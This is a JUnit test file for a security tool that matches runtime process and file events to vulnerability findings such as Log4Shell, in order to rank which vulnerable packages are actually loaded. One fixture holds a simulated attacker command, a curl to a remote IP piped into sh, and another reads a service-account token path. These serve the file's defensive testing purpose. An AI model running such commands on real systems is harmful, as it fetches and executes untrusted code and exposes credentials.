package io.sightline.rank;

import static io.sightline.rank.RankFixtures.ORDERS_API;
import static io.sightline.rank.RankFixtures.ORDERS_REPO_DIGEST;
import static io.sightline.rank.RankFixtures.container;
import static io.sightline.rank.RankFixtures.digest;
import static io.sightline.rank.RankFixtures.hex;
import static io.sightline.rank.RankFixtures.inventory;
import static io.sightline.rank.RankFixtures.report;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.sightline.asset.ContainerAsset;
import io.sightline.asset.ContainerId;
import io.sightline.asset.Inventory;
import io.sightline.event.ContainerContext;
import io.sightline.event.FileAccess;
import io.sightline.event.ProcessExec;
import io.sightline.event.ProcessRef;
import io.sightline.event.SourceRecord;
import io.sightline.finding.Finding;
import io.sightline.finding.PackageRef;
import io.sightline.finding.Severity;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalLong;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * Runtime events against package paths, shaped after examples/log4shell-lateral (orders-api runs
 * {@code java -jar /app/orders-api.jar} and is only ever seen as the process of its kprobe events,
 * never exec'd within the log) and examples/docker-host-miner (httpd exec'd from the path Grype
 * reports).
 */
class LoadedPackagesTest {

    private static final String FILE = "telemetry/tetragon.jsonl";
    private static final Instant T0 = Instant.parse("2024-11-14T09:00:00Z");
    private static final String LOG4J_IN_FAT_JAR = "app/orders-api.jar/BOOT-INF/lib/log4j-core-2.14.1.jar";
    private static final String JAVA_ARGS =
            "-XX:MaxRAMPercentage=75.0 -Dlog4j.configurationFile=/app/log4j2.xml -jar /app/orders-api.jar";
    private static final String OTHER = "docker.io/library/other:1.0";

    private final ContainerAsset ordersApi =
            container('a', ORDERS_API, Optional.of(ORDERS_REPO_DIGEST), Optional.empty());
    private final ContainerAsset other = container('b', OTHER, Optional.of(digest('b')), Optional.empty());

    private ImageCatalogue catalogue;

    private final Finding log4shell =
            finding("CVE-2021-44228", "log4j-core", "2.15.0", Severity.CRITICAL, LOG4J_IN_FAT_JAR);
    private final Finding libssl = finding(
            "CVE-2022-0778",
            "libssl1.1",
            "1.1.1f-1ubuntu2.12",
            Severity.HIGH,
            "/usr/lib/x86_64-linux-gnu/libssl.so.1.1",
            "/var/lib/dpkg/status");
    private final Finding mediumInJar = finding(
            "CVE-2021-45105",
            "log4j-api",
            "2.17.0",
            Severity.MEDIUM,
            "app/orders-api.jar/BOOT-INF/lib/log4j-api-2.14.1.jar");
    private final Finding unfixableInJar = finding(
            "CVE-2020-9488", "log4j-jul", null, Severity.HIGH, "app/orders-api.jar/BOOT-INF/lib/log4j-jul-2.14.1.jar");

    @Test
    void aFatJarRunByJavaLoadsTheJarsInsideIt() {
        LoadedPackages loaded = watching(List.of(log4shell));
        ProcessRef java = process('a', 36988, "/opt/java/openjdk/bin/java", JAVA_ARGS);

        // The JVM started before the log: it shows up only as the process of a file event.
        loaded.accept(read(7, java, "/var/run/secrets/kubernetes.io/serviceaccount/token"));

        ImageCatalogue.Entry entry = entryOf();
        assertThat(loaded.evidence(entry, log4shell.pkg()))
                .contains(new LoadedPackages.Evidence(
                        LOG4J_IN_FAT_JAR,
                        "app/orders-api.jar",
                        LoadedPackages.Kind.RUN_BY_ARGUMENT,
                        "/opt/java/openjdk/bin/java",
                        JAVA_ARGS,
                        hex('a').substring(0, 12),
                        new SourceRecord(FILE, 7)));
        assertThat(loaded.evidence(entry, log4shell.pkg()).orElseThrow().describe())
                .isEqualTo("/app/orders-api.jar run by `/opt/java/openjdk/bin/java " + JAVA_ARGS
                        + "` in container aaaaaaaaaaaa (telemetry/tetragon.jsonl:7)");
    }

    @Test
    void theEvidenceMasksTheCredentialsOnTheCommandLine() {
        LoadedPackages loaded = watching(List.of(log4shell));
        String arguments = "-Dspring.datasource.password=SECRETJAVA31"
                + " -Ddb.url=jdbc:postgresql://app:SECRETJAVA32@db:5432/x -jar /app/orders-api.jar";
        ProcessRef java = process('a', 36988, "/opt/java/openjdk/bin/java", arguments);

        loaded.accept(read(7, java, "/var/run/secrets/kubernetes.io/serviceaccount/token"));

        assertThat(loaded.evidence(entryOf(), log4shell.pkg()).orElseThrow().arguments())
                .isEqualTo("-Dspring.datasource.password=<redacted>"
                        + " -Ddb.url=jdbc:postgresql://app:<redacted>@db:5432/x -jar /app/orders-api.jar");
    }

    @Test
    void theParentOfAnExecIsRunningToo() {
        LoadedPackages loaded = watching(List.of(log4shell));
        ProcessRef java = process('a', 36988, "/opt/java/openjdk/bin/java", JAVA_ARGS);
        ProcessRef shell = process('a', 40001, "/bin/sh", "-c \"curl -fsSL http://203.0.113.47:8888/k.sh | sh\"");

        loaded.accept(new ProcessExec(new SourceRecord(FILE, 12), T0, shell, Optional.of(java)));

        assertThat(loaded.evidence(entryOf(), log4shell.pkg()))
                .map(LoadedPackages.Evidence::source)
                .contains(new SourceRecord(FILE, 12));
    }

    @Test
    void anExecutedBinaryIsLoadedAndAnOpenedLibraryToo() {
        Finding httpd = finding("CVE-2021-42013", "httpd", "2.4.51", Severity.CRITICAL, "/usr/local/apache2/bin/httpd");
        LoadedPackages loaded = watching(List.of(httpd, libssl));
        ProcessRef server = process('a', 7, "/usr/local/apache2/bin/httpd", "-DFOREGROUND");

        loaded.accept(new ProcessExec(new SourceRecord(FILE, 3), T0, server, Optional.empty()));
        loaded.accept(read(4, server, "/usr/lib/x86_64-linux-gnu/libssl.so.1.1"));

        ImageCatalogue.Entry entry = entryOf();
        assertThat(loaded.evidence(entry))
                .extracting(
                        LoadedPackages.Evidence::packagePath,
                        LoadedPackages.Evidence::kind,
                        e -> e.source().line())
                .containsExactly(
                        tuple("usr/local/apache2/bin/httpd", LoadedPackages.Kind.EXECUTED, 3),
                        tuple("usr/lib/x86_64-linux-gnu/libssl.so.1.1", LoadedPackages.Kind.OPENED, 4));
    }

    @Test
    void theEvidenceCountMovesOnlyWhenAPackagePathIsFirstProven() {
        Finding httpd = finding("CVE-2021-42013", "httpd", "2.4.51", Severity.CRITICAL, "/usr/local/apache2/bin/httpd");
        LoadedPackages loaded = watching(List.of(httpd, libssl));
        ProcessRef server = process('a', 7, "/usr/local/apache2/bin/httpd", "-DFOREGROUND");
        assertThat(loaded.evidenceFound()).isZero();

        loaded.accept(new ProcessExec(new SourceRecord(FILE, 3), T0, server, Optional.empty()));
        assertThat(loaded.evidenceFound()).isEqualTo(1);

        loaded.accept(new ProcessExec(new SourceRecord(FILE, 9), T0, server, Optional.empty()));
        loaded.accept(read(10, server, "/etc/hosts"));
        assertThat(loaded.evidenceFound()).isEqualTo(1);

        loaded.accept(read(11, server, "/usr/lib/x86_64-linux-gnu/libssl.so.1.1"));
        assertThat(loaded.evidenceFound()).isEqualTo(2);
    }

    @Test
    void packageDatabasesWritesAndRelativePathsAreNoEvidence() {
        LoadedPackages loaded = watching(List.of(libssl, log4shell));
        ProcessRef apt = process('a', 90, "/usr/bin/apt-get", "update -qq");
        ProcessRef relative = process('a', 91, "/opt/java/openjdk/bin/java", "-jar app/orders-api.jar");

        loaded.accept(read(1, apt, "/var/lib/dpkg/status"));
        loaded.accept(new FileAccess(
                new SourceRecord(FILE, 2),
                T0,
                apt,
                Optional.empty(),
                "/usr/lib/x86_64-linux-gnu/libssl.so.1.1",
                FileAccess.Mode.WRITE));
        loaded.accept(read(3, relative, "/etc/hosts"));

        assertThat(loaded.evidence(entryOf())).isEmpty();
    }

    @Test
    void onlyFixableHighAndCriticalFindingsAreWatched() {
        LoadedPackages loaded = watching(List.of(mediumInJar, unfixableInJar));
        loaded.accept(read(1, process('a', 36988, "/opt/java/openjdk/bin/java", JAVA_ARGS), "/etc/hosts"));

        assertThat(loaded.evidence(entryOf())).isEmpty();
    }

    @Test
    void aContainerOfAnotherImageRunningTheSamePathIsNoEvidence() {
        LoadedPackages loaded = watching(List.of(log4shell));
        loaded.accept(read(1, process('b', 500, "/opt/java/openjdk/bin/java", JAVA_ARGS), "/etc/hosts"));

        assertThat(loaded.evidence(entryOf())).isEmpty();
    }

    @Test
    void programArgumentsOfJavaAndInterpreters() {
        assertThat(LoadedPackages.programArguments(process(
                        'a',
                        1,
                        "/usr/bin/java",
                        "-javaagent:/opt/agent.jar=port=9404 -cp /app/lib/a.jar:/app/lib/b.jar:relative.jar"
                                + " com.example.Main /data/input.jar")))
                .containsExactly("/opt/agent.jar", "/app/lib/a.jar", "/app/lib/b.jar");
        assertThat(LoadedPackages.programArguments(
                        process('a', 2, "/usr/local/bin/python3.11", "-u /usr/local/bin/gunicorn app.wsgi")))
                .containsExactly("/usr/local/bin/gunicorn");
        assertThat(LoadedPackages.programArguments(process('a', 3, "/usr/local/bin/python3.11", "-m pytest /tests")))
                .isEmpty();
        assertThat(LoadedPackages.programArguments(process('a', 4, "/bin/cat", "/app/orders-api.jar")))
                .isEmpty();
        assertThat(LoadedPackages.tokens("-c \"bash -i\" 'a b' c")).containsExactly("-c", "bash -i", "a b", "c");
    }

    @Test
    void aPathIsWatchedThroughEachArchiveOnItsWay() {
        assertThat(LoadedPackages.targets(LOG4J_IN_FAT_JAR)).containsExactly("app/orders-api.jar", LOG4J_IN_FAT_JAR);
        assertThat(LoadedPackages.targets("usr/local/tomcat/webapps/inventory.war/WEB-INF/lib/spring-beans-5.3.17.jar"))
                .containsExactly(
                        "usr/local/tomcat/webapps/inventory.war",
                        "usr/local/tomcat/webapps/inventory.war/WEB-INF/lib/spring-beans-5.3.17.jar");
        assertThat(LoadedPackages.targets("/usr/local/lib/python3.8/site-packages/Django-2.2.3.dist-info/METADATA"))
                .isEmpty();
        assertThat(LoadedPackages.targets("app/x.jar/META-INF/maven/g/a/pom.xml"))
                .containsExactly("app/x.jar");
        assertThat(LoadedPackages.targets("/var/lib/dpkg/status")).isEmpty();
    }

    private LoadedPackages watching(List<Finding> findings) {
        Inventory inventory = inventory(ordersApi, other);
        catalogue = ImageCatalogue.build(
                inventory,
                List.of(report(
                        "orders-api.trivy.json",
                        Optional.empty(),
                        List.of(ORDERS_REPO_DIGEST),
                        Optional.empty(),
                        findings)),
                Set.of());
        return LoadedPackages.watching(inventory, catalogue);
    }

    private ImageCatalogue.Entry entryOf() {
        return catalogue.entries().stream()
                .filter(e -> e.repoDigests().contains(ORDERS_REPO_DIGEST))
                .findFirst()
                .orElseThrow();
    }

    static Finding finding(String id, String pkg, String fixed, Severity severity, String... paths) {
        return new Finding(
                id,
                List.of(),
                new PackageRef(pkg, "1.0", "jar", Optional.empty(), List.of(paths)),
                Optional.ofNullable(fixed),
                severity,
                OptionalDouble.empty(),
                id,
                "trivy");
    }

    private static ProcessRef process(char container, long pid, String executable, String arguments) {
        ContainerContext context = ContainerContext.of(ContainerId.parse("containerd://" + hex(container)));
        return new ProcessRef(
                "ip-10-0-1-17.ec2.internal",
                pid,
                T0.minusSeconds(3600),
                executable,
                arguments,
                Optional.empty(),
                Optional.of(context),
                OptionalLong.empty());
    }

    private static FileAccess read(int line, ProcessRef process, String path) {
        return new FileAccess(new SourceRecord(FILE, line), T0, process, Optional.empty(), path, FileAccess.Mode.READ);
    }
}
